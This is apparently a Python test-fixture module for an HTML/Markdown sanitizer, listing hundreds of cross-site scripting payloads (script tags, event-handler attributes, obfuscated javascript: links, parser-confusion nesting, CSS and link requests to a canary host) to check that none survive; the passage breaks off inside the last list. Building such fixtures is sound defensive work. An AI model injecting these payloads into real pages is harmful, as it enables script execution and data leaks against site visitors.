"""What somebody may try to run script with: the public kinds, written anew, each with an id.

Every payload that runs says `hit('its id')`, or asks `canary.example/its-id` for something.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from itertools import cycle
from typing import Any, NamedTuple

from publisher.model import limits
from sample.fragments import EXTENSIONS

CANARY = "canary.example"
"""A host that no author links to: whoever asks it for anything has been led there."""


class Payload(NamedTuple):
    """A text, in which HIT was changed for a call that tells its id, and CANARY/ for its address."""

    id: str
    text: str


EVENTS = [
    "abort",
    "afterprint",
    "animationcancel",
    "animationend",
    "animationiteration",
    "animationstart",
    "auxclick",
    "beforecopy",
    "beforecut",
    "beforeinput",
    "beforematch",
    "beforeprint",
    "beforetoggle",
    "beforeunload",
    "begin",
    "blur",
    "bounce",
    "canplay",
    "canplaythrough",
    "change",
    "click",
    "close",
    "contentvisibilityautostatechange",
    "contextmenu",
    "copy",
    "cuechange",
    "cut",
    "dblclick",
    "drag",
    "dragend",
    "dragenter",
    "dragexit",
    "dragleave",
    "dragover",
    "dragstart",
    "drop",
    "durationchange",
    "end",
    "ended",
    "error",
    "finish",
    "focus",
    "focusin",
    "focusout",
    "formdata",
    "fullscreenchange",
    "gotpointercapture",
    "hashchange",
    "input",
    "invalid",
    "keydown",
    "keypress",
    "keyup",
    "load",
    "loadeddata",
    "loadedmetadata",
    "loadstart",
    "lostpointercapture",
    "message",
    "mousedown",
    "mouseenter",
    "mouseleave",
    "mousemove",
    "mouseout",
    "mouseover",
    "mouseup",
    "mousewheel",
    "offline",
    "online",
    "pagehide",
    "pageshow",
    "paste",
    "pause",
    "play",
    "playing",
    "pointercancel",
    "pointerdown",
    "pointerenter",
    "pointerleave",
    "pointermove",
    "pointerout",
    "pointerover",
    "pointerrawupdate",
    "pointerup",
    "popstate",
    "progress",
    "ratechange",
    "readystatechange",
    "repeat",
    "reset",
    "resize",
    "scroll",
    "scrollend",
    "scrollsnapchange",
    "search",
    "securitypolicyviolation",
    "seeked",
    "seeking",
    "select",
    "selectionchange",
    "selectstart",
    "show",
    "slotchange",
    "stalled",
    "start",
    "storage",
    "submit",
    "suspend",
    "timeupdate",
    "toggle",
    "touchcancel",
    "touchend",
    "touchmove",
    "touchstart",
    "transitioncancel",
    "transitionend",
    "transitionrun",
    "transitionstart",
    "unhandledrejection",
    "unload",
    "volumechange",
    "waiting",
    "webkitanimationend",
    "webkitmouseforceup",
    "webkittransitionend",
    "wheel",
]
ELEMENTS = [
    "a",
    "abbr",
    "address",
    "article",
    "aside",
    "audio",
    "b",
    "bdi",
    "bdo",
    "blockquote",
    "caption",
    "cite",
    "code",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "footer",
    "h2",
    "h3",
    "header",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "picture",
    "pre",
    "q",
    "rp",
    "rt",
    "ruby",
    "s",
    "samp",
    "section",
    "small",
    "source",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "time",
    "tr",
    "track",
    "u",
    "ul",
    "var",
    "video",
    "wbr",
    "br",
    "hr",
    "col",
    "colgroup",
]

_TAGS = """
<script>HIT</script>
<SCRIPT SRC=//CANARY/></SCRIPT>
<sCrIpT>HIT</ScRiPt>
<script/x>HIT</script>
<script\fx>HIT</script >
<scr<script>ipt>HIT</scr</script>ipt>
<<script>HIT//<</script>
<script>HIT
<script type=module>HIT</script>
<script src=data:text/javascript,HIT></script>
<img src=x onerror=HIT>
<img src=x:x onerror="HIT">
<IMG SRC=x ONERROR=HIT>
<img/src=x/onerror=HIT>
<img\fsrc=x\fonerror=HIT>
<img src=x onerror\x0b=HIT>
<img src=x onerror =HIT>
<img src=x oNeRrOr=HIT>
<img src=`x`onerror=HIT>
<img src="x"onerror="HIT">
<img src=x on&#101;rror=HIT onerror=HIT>
<img src=x onerror=&#104;&#105;&#116;&lpar;&#39;ID&#39;&rpar;>
<img src=x alt="" onerror=HIT x=">
<img src='x' alt="a'onerror=HIT b='">
<img src=x alt='"' onerror=HIT '>
<img src=x alt=a"b=' onerror=HIT '">
<img src="x` `<script>HIT</script>"` `>
<img src=x title="</p><img src=x onerror=HIT>">
<img src onerror /" '"= alt=HIT//">
<image src=x onerror=HIT>
<img src=x onerror=HIT//
<img src=//CANARY/>
<img src=\\\\CANARY/>
<img src="https:/\\CANARY/">
<img src="&#x2f;&#47;CANARY/">
<img srcset="//CANARY/ 2x" alt="" src=karta.png>
<img alt="" src=karta.png SRCSET=//CANARY/>
<img alt="" src=karta.png lowsrc=//CANARY/ dynsrc=//CANARY/ usemap=#m>
<img alt="" src=karta.png attributionsrc="https://CANARY/">
<img alt="" src=karta.png name=getElementById id=getElementById>
<picture><source srcset=//CANARY/><img alt="" src=karta.png></picture>
<svg onload=HIT>
<svg/onload=HIT//
<svg><script>HIT</script></svg>
<svg><script href="data:,HIT"/></svg>
<svg><animate onbegin=HIT attributeName=x dur=1s></svg>
<svg><set onbegin=HIT attributename=x to=y></svg>
<svg><a xlink:href="javascript:HIT"><text x=20 y=20>x</text></a></svg>
<svg><a><animate attributeName=href values="javascript:HIT"/><text x=20 y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=HIT /></svg>#x"/></svg>
<svg><foreignObject><body onload=HIT></foreignObject></svg>
<svg><image href=//CANARY/ /></svg>
<svg><style>@import "//CANARY/";</style></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>HIT</handler></svg>
<svg><desc><img src=x onerror=HIT></desc></svg>
<svg></p><style><a id="</style><img src=x onerror=HIT>">
<svg><title><style><img src=x onerror=HIT></style></title></svg>
<math><a xlink:href="javascript:HIT">x</a></math>
<math href="javascript:HIT">x</math>
<math><maction actiontype=statusline xlink:href="javascript:HIT">x</maction></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=HIT&gt;">
<math><mi><table><mglyph><svg><mtext><textarea><path id="</textarea><img src=x onerror=HIT>">
<math></p><style><!--</style><img src/onerror=HIT>
<math><annotation-xml encoding=text/html><img src=x onerror=HIT></annotation-xml></math>
<math><style><a title="</style><img src=x onerror=HIT>">x</a></style></math>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=HIT>">
<noscript><p title="</noscript><img src=x onerror=HIT>"></noscript>
<noscript><style></noscript><img src=x onerror=HIT></style>
<noembed><p title="</noembed><img src=x onerror=HIT>"></noembed>
<noframes><p title="</noframes><img src=x onerror=HIT>"></noframes>
<xmp><p title="</xmp><img src=x onerror=HIT>"></xmp>
<textarea><p title="</textarea><img src=x onerror=HIT>"></textarea>
<title><p title="</title><img src=x onerror=HIT>"></title>
<style><p title="</style><img src=x onerror=HIT>"></style>
<template><p title="</template><img src=x onerror=HIT>"></template>
<template><script>HIT</script></template>
<template shadowrootmode=open><img src=x onerror=HIT></template>
<iframe><p title="</iframe><img src=x onerror=HIT>"></iframe>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=HIT>">
<select><option><p title="</select><img src=x onerror=HIT>">
<table><td><a title="</table><img src=x onerror=HIT>">x</a></table>
<table background="//CANARY/"><td background=//CANARY/>x</table>
<plaintext><img src=x onerror=HIT>
<listing>&lt;img src=x onerror=HIT&gt;</listing>
<!--><img src=x onerror=HIT>-->
<!---><img src=x onerror=HIT>-->
<!-- --!><img src=x onerror=HIT> -->
<!-- ><img src=x onerror=HIT> -->
<!--[if gte IE 4]><script>HIT</script><![endif]-->
<![if true]><img src=x onerror=HIT><![endif]>
<![CDATA[><img src=x onerror=HIT>]]>
<?xml <img src=x onerror=HIT>?>
<?xml-stylesheet href="javascript:HIT"?><img src=x onerror=HIT>
<!doctype x [<!entity y "<img src=x onerror=HIT>">]>&y;
<!ENTITY x><img src=x onerror=HIT>
</ <img src=x onerror=HIT>>
</p onclick=HIT><img src=x onerror=HIT>
<% <img src=x onerror=HIT> %>
<iframe src="javascript:HIT"></iframe>
<iframe srcdoc="<img src=x onerror=parent.HIT>"></iframe>
<iframe srcdoc="&lt;script&gt;parent.HIT&lt;/script&gt;"></iframe>
<iframe src=//CANARY/ onload=HIT></iframe>
<iframe src="data:text/html,<script>parent.HIT</script>"></iframe>
<frameset onload=HIT><frame src="javascript:HIT">
<object data="javascript:HIT"></object>
<object data=//CANARY/ onerror=HIT></object>
<object type=text/html data="data:text/html,<script>HIT</script>"></object>
<object><param name=src value="javascript:HIT"></object>
<embed src="javascript:HIT">
<embed src=//CANARY/>
<applet code="javascript:HIT">
<base href=//CANARY/><img src=x>
<base href="javascript:HIT//"><a href=x>x</a>
<link rel=stylesheet href=//CANARY/>
<link rel=preload as=script href=//CANARY/>
<link rel=icon href=//CANARY/><link rel=prefetch href=//CANARY/>
<link rel=import href="data:text/html,<script>HIT</script>">
<meta http-equiv=refresh content="0;url=//CANARY/">
<meta http-equiv=refresh content="0;url=javascript:HIT">
<meta http-equiv=refresh content="0;url=data:text/html,<script>HIT</script>">
<meta http-equiv=set-cookie content="a=b">
<meta charset=utf-7>+ADw-script+AD4-HIT+ADw-/script+AD4-
<form action="javascript:HIT"><input type=submit></form>
<form><button formaction="javascript:HIT">x</button></form>
<form id=x></form><button form=x formaction="javascript:HIT">x</button>
<isindex action="javascript:HIT" type=image>
<input onfocus=HIT autofocus>
<input type=image src=//CANARY/ onerror=HIT>
<select onfocus=HIT autofocus></select>
<textarea onfocus=HIT autofocus></textarea>
<keygen onfocus=HIT autofocus>
<button popovertarget=x>x</button><div popover id=x onbeforetoggle=HIT>x</div>
<body onload=HIT>
<body background=//CANARY/>
<html onclick=HIT>x</html>
<head><script>HIT</script></head>
<marquee onstart=HIT>x</marquee>
<marquee behavior=alternate onbounce=HIT loop=1>x</marquee>
<bgsound src="javascript:HIT">
<layer src=//CANARY/></layer>
<details open ontoggle=HIT>x</details>
<details open a=b"c=' ontoggle=HIT '">x</details>
<details/open/ontoggle=HIT>x</details>
<dialog open onclose=HIT>x</dialog>
<video src=x onerror=HIT></video>
<video><source onerror=HIT></video>
<video poster=//CANARY/></video>
<video poster="javascript:HIT"></video>
<audio src=//CANARY/ onerror=HIT></audio>
<audio src="data:audio/mpeg,x" onerror=HIT></audio>
<track src=//CANARY/>
<style>*{background:url(//CANARY/)}</style>
<style>@import url(//CANARY/);</style>
<style>@import'//CANARY/'</style>
<style onload=HIT></style>
<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=HIT>x</b>
<p style="background:url(//CANARY/)">x</p>
<p style="background:&#117;rl(//CANARY/)">x</p>
<p style="backgr\\6fund:u\\72l(//CANARY/)">x</p>
<p style="width:expression(HIT)">x</p>
<p style="behavior:url(//CANARY/)">x</p>
<p style="-moz-binding:url(//CANARY/)">x</p>
<p style="list-style:url('//CANARY/')">x</p>
<p style='content:"</style><img src=x onerror=HIT>"'>x</p>
<td style="text-align: left; background:url(//CANARY/)">x</td>
<p STYLE="position:fixed;inset:0;cursor:url(//CANARY/),auto">x</p>
<p class="x" id="x" style="filter:url(//CANARY/#x)">x</p>
<custom-element onclick=HIT>x</custom-element>
<x onclick=HIT tabindex=1 id=x autofocus onfocus=HIT>x</x>
<b is=x-y onclick=HIT slot=z>x</b>
<b contenteditable onbeforeinput=HIT autofocus onfocus=HIT>x</b>
<b accesskey=x onclick=HIT>x</b>
<a id=config name=config href="javascript:HIT">x</a>
<a href="javascript:HIT">x</a>
<a href=" javascript:HIT">x</a>
<a href="java\tscript:HIT">x</a>
<a href="java&Tab;script:HIT">x</a>
<a href="java&NewLine;script:HIT">x</a>
<a href="java&#10;script&colon;HIT">x</a>
<a href="&#1;javascript:HIT">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;HIT">x</a>
<a href="&#0000106avascript:HIT">x</a>
<a href=javascript&#58;HIT>x</a>
<a href="javascript\u2028:HIT">x</a>
<a href="\u00a0javascript:HIT">x</a>
<a href="\ufeffjavascript:HIT">x</a>
<a href="JaVaScRiPt:HIT">x</a>
<a href="javascript://%0aHIT">x</a>
<a href="javascript:/*--></title></style></textarea></script></xmp><svg/onload='HIT'>//">x</a>
<a href="vbscript:HIT">x</a>
<a href="data:text/html,<script>HIT</script>">x</a>
<a href="DATA:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==">x</a>
<a href="blob:https://x/y">x</a>
<a href="view-source:javascript:HIT">x</a>
<a href="feed:javascript:HIT">x</a>
<a href="jar:javascript:HIT!/">x</a>
<a href="livescript:HIT">x</a>
<a href="mocha:HIT">x</a>
<a href="filesystem:https://x/y">x</a>
<a href=//CANARY/ ping=//CANARY/>x</a>
<a href="/om/" ping="https://CANARY/">x</a>
<a href="\\\\CANARY\\x">x</a>
<a href="/\\CANARY/">x</a>
<a href="/om/" target="x" onclick=HIT>x</a>
<a href="/om/" attributionsrc="https://CANARY/">x</a>
<a xlink:href="javascript:HIT" href="/om/">x</a>
<a href="https://exempel.se/" href="javascript:HIT">x</a>
<a href="javascript:HIT" href="https://exempel.se/">x</a>
<a class="play" data-page="javascript:HIT" data-id=x data-cover="//CANARY/" href="samtal.mp3">x</a>
<div class="player" data-id=x data-page="javascript:HIT" data-cover="//CANARY/"><audio class="player__sound"></audio></div>
<p itemscope itemtype="javascript:HIT" itemid="javascript:HIT">x</p>
<blockquote cite="javascript:HIT">x</blockquote>
<q cite="java&Tab;script:HIT">x</q>
<del cite="data:text/html,HIT" datetime="javascript:HIT">x</del>
<p id="__proto__" class="constructor">x</p>
<a name=body id=documentElement>x</a>
<p>x<p <p title="><img src=x onerror=HIT>">
<p title="&quot;><img src=x onerror=HIT>">x</p>
<p title='"><img src=x onerror=HIT>'>x</p>
<p title=`"><img src=x onerror=HIT>`>x</p>
<p =onclick=HIT>x</p>
<p /onclick=HIT>x</p>
<p x=y/onclick=HIT>x</p>
<p x='y'onclick=HIT>x</p>
<p x= onclick=HIT onclick=HIT>x</p>
<p onclick&equals;HIT>x</p>
<p \x00onclick=HIT>x</p>
<p on\x00click=HIT>x</p>
<p\u00a0onclick=HIT>x</p>
<p\u2003onclick=HIT onclick=HIT>x</p>
<p onclick\u00a0=HIT>x</p>
<p ON\u212aEYDOWN=HIT onkeydown=HIT>x</p>
<p\tonclick\t=\tHIT\t>x</p>
<\x00img src=x onerror=HIT>
<im\x00g src=x onerror=HIT>
\uff1cimg src=x onerror=HIT\uff1e
%3Cimg src=x onerror=HIT%3E
&lt;img src=x onerror=HIT&gt;
&amp;lt;img src=x onerror=HIT&amp;gt;
\\<img src=x onerror=HIT>
\u202e<img src=x onerror=HIT>\u202c
\x02wzxhzdk:0\x03<img src=x onerror=HIT>
\x02amp\x03#60;img src=x onerror=HIT>
\x02more\x03<img src=x onerror=HIT>
\x02gone\x03<img src=x onerror=HIT>
&#2;wzxhzdk:0&#3;<img src=x onerror=HIT>
"""
_MULTILINE = (
    '<img """><script>HIT</script>">',
    "<img src=x\nonerror=HIT>",
    "<img src=x\n\nonerror=HIT>",
    "<svg>\n\n<script>HIT</script>\n\n</svg>",
    "<div markdown>\n\n<img src=x onerror=HIT>\n\n</div>",
    "<div markdown onclick=HIT>\n\n**x**{: onclick=HIT }\n\n</div>",
    "<!--\n\n-->\n<img src=x onerror=HIT>",
    "<!-- x\n\n--!><img src=x onerror=HIT>",
    "- <!-- x\n\n  <img src=x onerror=HIT> -->",
    "> <img src=x onerror=HIT\n> alt=x>",
    "| a | b |\n| --- | --- |\n| <img src=x | onerror=HIT> |",
    "a[^1]\n\n[^1]: <img src=x onerror=HIT>",
    "a[^<img src=x onerror=HIT>]\n\n[^<img src=x onerror=HIT>]: x",
    'a[^"onclick=HIT x="]\n\n[^"onclick=HIT x="]: x',
    '*[BNP]: "><img src=x onerror=HIT>\n\nBNP',
    '*["><img src=x onerror=HIT>]: x\n\n"><img src=x onerror=HIT>',
    '!!! note "<img src=x onerror=HIT>"\n    x',
    '!!! "onclick=HIT x=" "x"\n    x',
    '!!! note onclick=HIT "x"\n    <img src=x onerror=HIT>',
    "```<img src=x onerror=HIT>\nx\n```",
    '```"onclick=HIT\nx\n```',
    "``` { .x onclick=HIT }\nx\n```",
    '``` { .x title="<img src=x onerror=HIT>" data-x="javascript:HIT" }\nx\n```',
    "```\n</code></pre><img src=x onerror=HIT>\n```",
    "    </code></pre><img src=x onerror=HIT>",
    "`</code><img src=x onerror=HIT>`",
    "x\n: <img src=x onerror=HIT>",
    "Rubrik <img src=x onerror=HIT>\n---",
    "## <img src=x onerror=HIT>",
    "## x {: #x onclick=HIT }",
    "## x {: id='\"><img src=x onerror=HIT>' }",
    "[x]\n\n[x]: javascript:HIT",
    "[x]\n\n[x]: <javascript:HIT>",
    '[x]\n\n[x]: /om/ "\\"><img src=x onerror=HIT>"',
    "[x][]\n\n[x]: data:text/html,<script>HIT</script>",
    "![x]\n\n[x]: //CANARY/",
    "![x]\n\n[x]: karta.png 'x\" onerror=HIT y=\"'",
    'https://exempel.se/"onclick=HIT\n',
    "https://exempel.se/<img/src=x/onerror=HIT>\n",
    "javascript:HIT\n",
    "<javascript://%0aHIT>",
    '<https://exempel.se/"onclick=HIT>',
    '<x@y.example"onclick=HIT>',
    "<x@y.example>{: onmouseover=HIT }",
    '<x@y.example>{: href="javascript:HIT" }',
    "[x](javascript:HIT)",
    "[x](<javascript:HIT>)",
    "[x]( javascript:HIT)",
    "[x](java\\script:HIT)",
    "[x](java&#115;cript:HIT)",
    "[x](javascript&colon;HIT)",
    "[x](&#106;avascript:HIT)",
    "[x](JaVaScRiPt:HIT)",
    "[x](javascript:HIT 'x')",
    "[x](vbscript:HIT)",
    "[x](data:text/html,<script>HIT</script>)",
    "[x](//CANARY/)",
    "[x](/om/ \"x' onclick=HIT y='\")",
    "[x](/om/ 'x\" onclick=HIT y=\"')",
    "[x](/om/){: onclick=HIT }",
    '[x](/om/){: href="javascript:HIT" }',
    '[x](/om/){: HREF="javascript:HIT" }',
    '[x](/om/){: href="&#106;avascript:HIT" }',
    '[x](/om/){: href="java&Tab;script:HIT" }',
    '[x](/om/){: xlink:href="javascript:HIT" }',
    "[x](/om/){: onclick=HIT .x #y }",
    "[x](/om/){: style=background:url(//CANARY/) }",
    "[x](/om/){: ping=//CANARY/ }",
    "[<img src=x onerror=HIT>](/om/)",
    "![x](javascript:HIT)",
    "![x](//CANARY/)",
    "![x](https://CANARY/)",
    "![x](data:image/svg+xml,<svg/onload=HIT>)",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    '!["onerror=HIT x="](karta.png)',
    "!['><img src=x onerror=HIT>](karta.png)",
    '![x](karta.png "<img src=x onerror=HIT>")',
    "![x](karta.png '\"onerror=HIT')",
    '![x](karta.png){: onload="HIT" }',
    '![x](karta.png){: ONLOAD="HIT" }',
    '![x](karta.png){: src="javascript:HIT" }',
    '![x](karta.png){: SRC="//CANARY/" }',
    "![x](karta.png){: srcset=//CANARY/ }",
    "![x](karta.png){: SrcSet=//CANARY/ }",
    "![x](karta.png){: longdesc=//CANARY/ }",
    "![x](karta.png){: crossorigin=x onerror=HIT }",
    "*x*{: onmouseenter=HIT }",
    "`x`{: onmouseenter=HIT }",
    "x\n{: onclick=HIT }",
    "x\n{: onclick=HIT tabindex=0 autofocus onfocus=HIT }",
    "x\n{: ='onclick' onclick=HIT }",
    "x\n{: x=\"'\" onclick='HIT' }",
    "- x\n{: onclick=HIT }",
    "- x {: onclick=HIT }",
    "> x\n> {: onclick=HIT }",
    "| a {: onclick=HIT } | b |\n| --- | --- |\n| c {: onclick=HIT } | d |",
    "x {: onclick=HIT }\n: y {: onclick=HIT }",
    "[![x](karta.png){: onclick=HIT }](/om/)",
    "**x _y_{: onclick=HIT }**",
    "x[^1]{: onclick=HIT }\n\n[^1]: y {: onclick=HIT }",
    "[TOC]{: onclick=HIT }\n\n## <img src=x onerror=HIT>",
    '[x <b>](/om/ "</b><img src=x onerror=HIT>")',
    'a <b title="\n\nb"><img src=x onerror=HIT>',
    "<p title='\n\n'><img src=x onerror=HIT>",
    '[a](<b)c<d> "e><img src=x onerror=HIT>")',
    '![a<](karta.png "><img src=x onerror=HIT>")',
    "<a href='`'>`<img src=x onerror=HIT>",
    "`<a title='`'><img src=x onerror=HIT>'>",
    "<https://exempel.se/`>`<img src=x onerror=HIT>",
    "**<img src=x onerror=HIT**>",
    "<b _onclick=HIT_ onclick=HIT>x</b>",
    '<b title="[x](y" onclick=HIT ")">x</b>',
    "<scr`ipt>HIT</scr`ipt>",
    "<<a@b.example>script>HIT</script>",
    "<b title=<x@y.example> onclick=HIT>x</b>",
    "<b title=\"&quot;&#34;&#x22;\" title='x' onclick=HIT>x</b>",
)

_FURTHER = (
    # A parser that reads twice, or in another language, moves what a first reading thought harmless.
    "<math><mi><p title='</mi></math><img src=x onerror=HIT>'></mi></math>",
    "<math><mtext><table><mglyph><style><math>x</style><img src=x onerror=HIT></table></mtext></math>",
    "<math><annotation-xml encoding=TEXT/HTML><style><p title='</style><img src=x onerror=HIT>'></math>",
    "<math><annotation-xml encoding='application/xhtml+xml'><svg><desc><img src=x onerror=HIT></math>",
    "<math><ms><b><mglyph><title></b></title><img src=x onerror=HIT>",
    "<svg><foreignObject><math><mtext><p title='</foreignObject></svg><img src=x onerror=HIT>'>",
    "<svg><title><template><style></title></svg><img src=x onerror=HIT></style></template>",
    "<svg><desc><table><td><svg><p title='</desc></svg><img src=x onerror=HIT>'></table>",
    "<svg><p><style><!--</style><img title='--><img src=x onerror=HIT>'></p></svg>",
    "<svg><![CDATA[<img title=']]><img src=x onerror=HIT>'>]]></svg>",
    "<svg><animate attributeName=href values=javascript:HIT /><a id=x><text y=9>x</text></a></svg>",
    "<svg><a><set attributeName='xlink:href' to='javascript:HIT'/><text y=9>x</text></a></svg>",
    "<svg><a><animate attributeName=href from='/' to='&#106;avascript:HIT' begin=0s fill=freeze></a></svg>",
    "<svg><discard onbegin=HIT begin=0s></svg>",
    "<svg><use xlink:href='//CANARY/#x'/></svg>",
    "<svg><feImage href=//CANARY/ /></svg>",
    "<svg><filter><feImage xlink:href='//CANARY/'/></filter></svg>",
    "<svg><mpath href='javascript:HIT'/></svg>",
    "<svg><switch><foreignObject requiredExtensions=''><iframe srcdoc='<script>parent.HIT</script>'></switch></svg>",
    "<svg xmlns:x='http://www.w3.org/1999/xlink'><a x:href='javascript:HIT'>x</a></svg>",
    "<template><table><tr><template><img src=x onerror=HIT></template></table></template><img src=x onerror=HIT>",
    "<template shadowrootmode=closed shadowrootclonable><style>@import '//CANARY/'</style></template>",
    "<div><template shadowroot=open><slot onslotchange=HIT></slot><img src=x onerror=HIT></template></div>",
    "<noscript><noscript><p title='</noscript></noscript><img src=x onerror=HIT>'></noscript></noscript>",
    "<noscript><!--</noscript><img src=x onerror=HIT>--></noscript>",
    "<p><noscript><b title='</p></noscript><img src=x onerror=HIT>'></b></noscript>",
    "<select><selectedcontent><img src=x onerror=HIT></selectedcontent></select>",
    "<select><keygen><option></select><img src=x onerror=HIT>",
    "<select><button><selectedcontent></button><option><img src=x onerror=HIT></select>",
    "<select><svg><script>HIT</script></svg></select>",
    "<datalist><option label='</datalist><img src=x onerror=HIT>'></datalist>",
    "<table><b><tr><td></b><img src=x onerror=HIT></table>",
    "<table><tr><a href='javascript:HIT'>x<td>y</a></tr></table>",
    "<table><caption><img src=x onerror=HIT></table>",
    "<table><colgroup><img src=x onerror=HIT><col></table>",
    "<table><input type=hidden onfocus=HIT autofocus><tr><td>x</table>",
    "<table><form><input type=image src=//CANARY/></form></table>",
    "<table><!--<td>--!><img src=x onerror=HIT></table>",
    "<table><svg><tr><td><style><b title='</style><img src=x onerror=HIT>'></table>",
    "<b><p></b><i title='</p><img src=x onerror=HIT>'>x</i>",
    "<a><b><a href='javascript:HIT'><i></a>x</b></a>",
    "<p><table><p title='</table><img src=x onerror=HIT>'>",
    "<dd><dt><dl title='</dd><img src=x onerror=HIT>'></dl>",
    "<ruby><rt><rp><img src=x onerror=HIT></ruby>",
    "<h1><h2><img src=x onerror=HIT></h1>",
    "<pre>\n<textarea>\n</pre><img src=x onerror=HIT></textarea>",
    "<pre>\n\n<xmp></pre><img src=x onerror=HIT></xmp>",
    "<optgroup><img src=x onerror=HIT></optgroup>",
    "<fencedframe src=//CANARY/></fencedframe><portal src=//CANARY/></portal>",
    "<search><menu><nobr><img src=x onerror=HIT></nobr></menu></search>",
    # Names that end otherwise than they seem to.
    "<b title=x\x0bonclick=HIT>x</b>",
    "<b title=x\u2029onclick=HIT>x</b>",
    "<b title=x\u00a0onclick=HIT onclick=HIT>x</b>",
    "<b title='x'/onclick=HIT/>x</b>",
    "<b title='x'\"onclick=HIT>x</b>",
    "<b \"title='x' onclick=HIT>x</b>",
    "<b title==onclick=HIT>x</b>",
    "<b title= =x onclick=HIT>x</b>",
    "<b title=x>onclick=HIT</b title='<img src=x onerror=HIT>'>",
    "<b title='x\\' onclick='HIT'>x</b>",
    "<b ONCLICK&Tab;=HIT onclick&#61;HIT onclick=HIT>x</b>",
    "<b data-onclick=HIT aria-onclick=HIT on-click=HIT onclick=HIT>x</b>",
    "<b :onclick=HIT @click=HIT v-on:click=HIT x-on:click=HIT>x</b>",
    "<b {onclick}=HIT [onclick]=HIT (click)=HIT onclick=HIT>x</b>",
    "<b xml:base=javascript:HIT xmlns=http://www.w3.org/2000/svg onclick=HIT>x</b>",
    "<b onclick\n=\nHIT\n>x</b>",
    "<\u0131mg src=x onerror=HIT>",
    "<img\u3000src=x\u3000onerror=HIT src=x onerror=HIT>",
    "<\u017fcript>HIT</\u017fcript>",
    "<SCR\u0130PT>HIT</SCR\u0130PT>",
    "<img src=x onerror='HIT&#39;>",
    "<img src=x onerror=HIT\x00>",
    "<img src=x \x7fonerror=HIT>",
    "<img src=x \x85onerror=HIT>",
    # Schemes.
    "<a href='\x0bjavascript:HIT'>x</a>",
    "<a href='&#12;javascript:HIT'>x</a>",
    "<a href='&#x0;javascript:HIT'>x</a>",
    "<a href='javascript&#0;:HIT'>x</a>",
    "<a href='jav&#x00AD;ascript:HIT'>x</a>",
    "<a href='java\u200dscript:HIT'>x</a>",
    "<a href='javascript&#xFF1A;HIT'>x</a>",
    "<a href='javascript\ufe55HIT'>x</a>",
    "<a href='&#x2028;&#x9;j&#xA;a&#xD;vascript&#58;HIT'>x</a>",
    "<a href='&Tab;&NewLine;javascript&colon;&lpar;HIT&rpar;'>x</a>",
    "<a href='javascript&#58HIT'>x</a>",
    "<a href='&#106avascript&#x3aHIT'>x</a>",
    "<a href='javas&#99;ript&colon&semi;HIT'>x</a>",
    "<a href='https:javascript:HIT'>x</a>",
    "<a href='https:&bsol;&bsol;CANARY/' ping=//CANARY/>x</a>",
    "<img alt='' src='https:CANARY/'>",
    "<img alt='' src='/&Tab;/CANARY/'>",
    "<img alt='' src='/\t\\CANARY/'>",
    "<img alt='' src='\n//CANARY/'>",
    "<img alt='' src='/./..//CANARY/'>",
    "<img alt='' src='/.//CANARY/'>",
    "<img alt='' src='.//CANARY/'>",
    "<img alt='' src='a/..//../..//CANARY/'>",
    "<img alt='' src='?/../..//CANARY/'>",
    "<img alt='' src='/x/..//CANARY/'>",
    "<video controls src='/.//CANARY/'></video>",
    "<video poster='/..//CANARY/'></video>",
    "<img alt='' src='http&colon;//CANARY/'>",
    "<img alt='' src=karta.png imagesrcset='//CANARY/ 1x' imagesizes=1px>",
    "<source src=karta.png srcset='//CANARY/ 1x' media=all>",
    "<picture><source srcset='karta.png, //CANARY/ 2x'><img alt='' src=karta.png sizes=1px></picture>",
    "<img alt='' src=karta.png srcset='data:,x 1x,//CANARY/ 9x' fetchpriority=high>",
    "<a href=/om/ ping='/om/ https://CANARY/' referrerpolicy=unsafe-url>x</a>",
    "<a href=/om/ rel='preload stylesheet opener' target=_blank onclick=HIT>x</a>",
    "<area href='javascript:HIT' shape=default><map name=m><area ping=//CANARY/ href=/om/></map>",
    "<form method=dialog><button formaction='javascript:HIT' formtarget=_self>x</button></form>",
    "<button command=show-modal commandfor=x onclick=HIT>x</button><dialog id=x oncommand=HIT>x</dialog>",
    "<button interestfor=x oninterest=HIT>x</button>",
    "<input type=submit form=x formaction='javascript:HIT' formmethod=get>",
    "<meta http-equiv=Refresh content=\"0,url='javascript:HIT'\">",
    "<meta http-equiv='&#114;efresh' content='0; URL=//CANARY/'>",
    "<meta http-equiv=Content-Security-Policy content='report-uri //CANARY/'>",
    "<meta name=referrer content=unsafe-url><img src=//CANARY/>",
    "<base href='/.//CANARY/'><img alt='' src=karta.png>",
    "<base target='<img src=x onerror=HIT>'><a href=/om/>x</a>",
    "<link rel='stylesheet' href='data:text/css,@import%20\"//CANARY/\"'>",
    "<link rel=expect href=#x blocking=render onload=HIT>",
    "<link rel=modulepreload href=//CANARY/><link rel=dns-prefetch href=//CANARY/>",
    "<link rel=manifest href=//CANARY/><link rel=alternate href=//CANARY/>",
    "<link rel=compression-dictionary href=//CANARY/>",
    '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["//CANARY/"]}]}</script>',
    '<script type=importmap>{"imports":{"x":"//CANARY/"}}</script><script type=module>import \'x\'</script>',
    "<script nomodule>HIT</script><script async defer src=//CANARY/></script>",
    # Styles.
    "<p style='--x:url(//CANARY/);background:var(--x)'>x</p>",
    "<p style='background:image-set(\"//CANARY/\" 1x)'>x</p>",
    "<p style='background:-webkit-image-set(url(//CANARY/) 1x)'>x</p>",
    "<p style='background:\\75 rl(//CANARY/)'>x</p>",
    "<p style='mask:url(//CANARY/)'>x</p>",
